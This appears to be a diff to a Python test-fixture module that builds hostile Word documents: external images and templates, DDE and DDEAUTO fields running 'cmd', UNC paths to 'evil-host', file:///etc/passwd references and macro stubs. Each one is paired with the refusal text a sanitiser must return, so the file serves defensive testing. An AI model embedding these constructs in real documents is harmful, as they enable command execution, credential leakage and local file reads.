@@ -94,7 +94,10 @@ def complex_field(instruction: str, result: str = "结果") -> str:
 
 
 def simple_field(instruction: str, result: str = "结果") -> str:
-    return paragraph(f'<w:fldSimple w:instr=" {instruction} "><w:r><w:t>{result}</w:t></w:r></w:fldSimple>')
+    from xml.sax.saxutils import quoteattr
+
+    instr = quoteattr(f" {instruction} ")
+    return paragraph(f"<w:fldSimple w:instr={instr}><w:r><w:t>{result}</w:t></w:r></w:fldSimple>")
 
 
 def external_image_paragraph(rel_id: str) -> str:
@@ -116,9 +119,9 @@ def external_image_paragraph(rel_id: str) -> str:
 def with_entity(data: bytes, value: str = "隆重", text: str = "今天召开会议。") -> bytes:
     """The issue's payload: an internal entity used in a run, ``今天&e;召开会议。``."""
     blob = parts(data)["word/document.xml"]
-    declared = blob.replace(
-        b"?>", f'?><!DOCTYPE w:document [<!ENTITY e "{value}">]>'.encode(), 1
-    ).replace(text.encode(), text.replace("召开", "&e;召开").encode(), 1)
+    declared = blob.replace(b"?>", f'?><!DOCTYPE w:document [<!ENTITY e "{value}">]>'.encode(), 1).replace(
+        text.encode(), text.replace("召开", "&e;召开").encode(), 1
+    )
     return repack(data, {"word/document.xml": declared})
 
 
@@ -138,3 +141,219 @@ def truncated(data: bytes) -> bytes:
 
 def text_in(encoding: str, text: str) -> bytes:
     return text.encode(encoding)
+
+
+# -- active and external content, for templates (and documents given to the PDF converter) -------------
+
+RELS_HEAD = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL_NS}">'
+
+
+def add_part(data: bytes, name: str, blob: bytes, content_type: str | None = None) -> bytes:
+    change = {name: blob}
+    if content_type:
+        types = parts(data)["[Content_Types].xml"]
+        override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'.encode()
+        change["[Content_Types].xml"] = types.replace(b"</Types>", override + b"</Types>")
+    return repack(data, change)
+
+
+def rels_of(data: bytes, rels_part: str, rel_id: str, rel_type: str, target: str, *, external: bool) -> bytes:
+    """Add a relationship to ``rels_part``, creating the file when the part has none yet."""
+    mode = ' TargetMode="External"' if external else ""
+    rel = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'.encode()
+    existing = parts(data).get(rels_part, (RELS_HEAD + "</Relationships>").encode())
+    return repack(data, {rels_part: existing.replace(b"</Relationships>", rel + b"</Relationships>")})
+
+
+def external_image(data: bytes, url: str) -> bytes:
+    data = add_relationship(data, "rIdEvil", REL_IMAGE, url)
+    return add_body_xml(data, external_image_paragraph("rIdEvil"))
+
+
+def attached_template(data: bytes, url: str = "http://127.0.0.1:9/evil.dotm") -> bytes:
+    data = rels_of(data, "word/_rels/settings.xml.rels", "rIdTpl", REL_ATTACHED, url, external=True)
+    return add_settings_xml(data, f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdTpl"/>')
+
+
+def mail_merge(data: bytes) -> bytes:
+    data = rels_of(
+        data, "word/_rels/settings.xml.rels", "rIdSrc", REL_DATASOURCE, "file:///C:/data/名单.xlsx", external=True
+    )
+    return add_settings_xml(
+        data,
+        f'<w:mailMerge xmlns:r="{R_NS}"><w:mainDocumentType w:val="formLetters"/>'
+        '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0"/>'
+        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdSrc"/></w:mailMerge>',
+    )
+
+
+def alt_chunk(data: bytes) -> bytes:
+    data = add_part(
+        data, "word/afchunk.htm", b"<html><body><img src='http://127.0.0.1:9/x.png'></body></html>", "text/html"
+    )
+    data = add_relationship(data, "rIdChunk", REL_ALTCHUNK, "afchunk.htm", external=False)
+    return add_body_xml(data, f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdChunk"/>')
+
+
+def macros(data: bytes) -> bytes:
+    data = add_part(
+        data,
+        "word/vbaProject.bin",
+        b"\xd0\xcf\x11\xe0 Attribute VB_Name AutoOpen Shell",
+        "application/vnd.ms-office.vbaProject",
+    )
+    data = add_relationship(data, "rIdVba", REL_VBA, "vbaProject.bin", external=False)
+    types = parts(data)["[Content_Types].xml"].replace(
+        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+        b"application/vnd.ms-word.document.macroEnabled.main+xml",
+    )
+    return repack(data, {"[Content_Types].xml": types})
+
+
+def ole_object(data: bytes) -> bytes:
+    data = add_part(
+        data,
+        "word/embeddings/oleObject1.bin",
+        b"\xd0\xcf\x11\xe0 Package",
+        "application/vnd.openxmlformats-officedocument.oleObject",
+    )
+    data = add_relationship(data, "rIdOle", REL_OLE, "embeddings/oleObject1.bin", external=False)
+    return add_body_xml(
+        data,
+        paragraph(
+            '<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" '
+            f'xmlns:r="{R_NS}"><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r>'
+        ),
+    )
+
+
+def linked_ole(data: bytes) -> bytes:
+    data = add_relationship(data, "rIdLink", REL_OLE, "\\\\evil-host\\share\\data.xlsx")
+    return add_body_xml(
+        data,
+        paragraph(
+            '<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" '
+            f'xmlns:r="{R_NS}"><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdLink" '
+            'UpdateMode="Always"/></w:object></w:r>'
+        ),
+    )
+
+
+def activex(data: bytes) -> bytes:
+    data = add_part(
+        data,
+        "word/activeX/activeX1.xml",
+        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
+        "application/vnd.ms-office.activeX+xml",
+    )
+    data = add_relationship(
+        data,
+        "rIdAx",
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/control",
+        "activeX/activeX1.xml",
+        external=False,
+    )
+    return add_body_xml(data, paragraph(f'<w:r><w:control xmlns:r="{R_NS}" r:id="rIdAx" w:name="TextBox1"/></w:r>'))
+
+
+def embedded_font(data: bytes) -> bytes:
+    data = add_part(
+        data, "word/fonts/font1.odttf", b"\x00" * 64, "application/vnd.openxmlformats-officedocument.obfuscatedFont"
+    )
+    data = rels_of(data, "word/_rels/fontTable.xml.rels", "rIdFont", REL_FONT, "fonts/font1.odttf", external=False)
+    blob = parts(data)["word/fontTable.xml"]
+    end = blob.rindex(b"</w:fonts>")
+    font = (
+        f'<w:font w:name="陌生字体" xmlns:r="{R_NS}"><w:embedRegular r:id="rIdFont" '
+        'w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>'
+    ).encode()
+    return repack(data, {"word/fontTable.xml": blob[:end] + font + blob[end:]})
+
+
+def outside_binding(data: bytes) -> bytes:
+    return add_body_xml(
+        data,
+        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root[1]/secret[1]" '
+        'w:storeItemID="{11111111-2222-3333-4444-555555555555}"/></w:sdtPr>'
+        "<w:sdtContent><w:p><w:r><w:t>绑定</w:t></w:r></w:p></w:sdtContent></w:sdt>",
+    )
+
+
+def hyperlink(data: bytes, url: str) -> bytes:
+    data = add_relationship(data, "rIdLink", REL_HYPERLINK, url)
+    return add_body_xml(
+        data, paragraph(f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdLink"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink>')
+    )
+
+
+def vml_href(data: bytes) -> bytes:
+    return add_body_xml(
+        data,
+        paragraph(
+            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
+            'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:10pt;height:10pt">'
+            '<v:imagedata o:href="file:///etc/passwd" o:title="x"/></v:shape></w:pict></w:r>'
+        ),
+    )
+
+
+def hyperlink_base(data: bytes) -> bytes:
+    blob = parts(data)["docProps/app.xml"]
+    end = blob.rindex(b"</Properties>")
+    return repack(
+        data, {"docProps/app.xml": blob[:end] + b"<HyperlinkBase>\\\\evil-host\\share\\</HyperlinkBase>" + blob[end:]}
+    )
+
+
+def split_field(data: bytes) -> bytes:
+    """INCLUDEPICTURE with its keyword split over two runs, as Word itself sometimes saves it."""
+    return add_body_xml(
+        data,
+        paragraph(
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
+            '<w:r><w:instrText xml:space="preserve">PICTURE "http://127.0.0.1:9/x.png" \\d </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域结果</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        ),
+    )
+
+
+# name → (builder on a template's bytes, words the refusal must contain)
+ACTIVE_PAYLOADS = {
+    "image-http": (lambda d: external_image(d, "http://127.0.0.1:9/track.png"), "外部图片"),
+    "image-file": (lambda d: external_image(d, "file:///etc/passwd"), "外部图片"),
+    "image-unc": (lambda d: external_image(d, "\\\\evil-host\\share\\a.png"), "外部图片"),
+    "attached-template": (attached_template, "附加模板"),
+    "includepicture-complex": (
+        lambda d: add_body_xml(d, complex_field('INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d')),
+        "INCLUDEPICTURE",
+    ),
+    "includepicture-split": (split_field, "INCLUDEPICTURE"),
+    "includetext-simple": (lambda d: add_body_xml(d, simple_field('INCLUDETEXT "C:\\\\secret.docx"')), "INCLUDETEXT"),
+    "link-field": (
+        lambda d: add_body_xml(d, complex_field('LINK Excel.Sheet.12 "\\\\\\\\host\\\\s.xlsx" "Sheet1!R1C1" \\a')),
+        "LINK",
+    ),
+    "dde-field": (lambda d: add_body_xml(d, complex_field('DDE "cmd" "/c calc" "x"')), "DDE"),
+    "ddeauto-field": (
+        lambda d: add_body_xml(d, simple_field('DDEAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"')),
+        "DDEAUTO",
+    ),
+    "hyperlink-field-unc": (
+        lambda d: add_body_xml(d, simple_field('HYPERLINK "\\\\\\\\evil-host\\\\share"')),
+        "HYPERLINK",
+    ),
+    "mail-merge": (mail_merge, "邮件合并"),
+    "alt-chunk": (alt_chunk, "altChunk"),
+    "macros": (macros, "宏"),
+    "ole-embedded": (ole_object, "OLE"),
+    "ole-linked-unc": (linked_ole, "OLE"),
+    "activex": (activex, "ActiveX"),
+    "embedded-font": (embedded_font, "嵌入字体"),
+    "data-binding-outside": (outside_binding, "数据绑定"),
+    "hyperlink-file": (lambda d: hyperlink(d, "file:///etc/passwd"), "超链接"),
+    "vml-href-file": (vml_href, "外部地址"),
+    "hyperlink-base-unc": (hyperlink_base, "超链接基址"),
+}
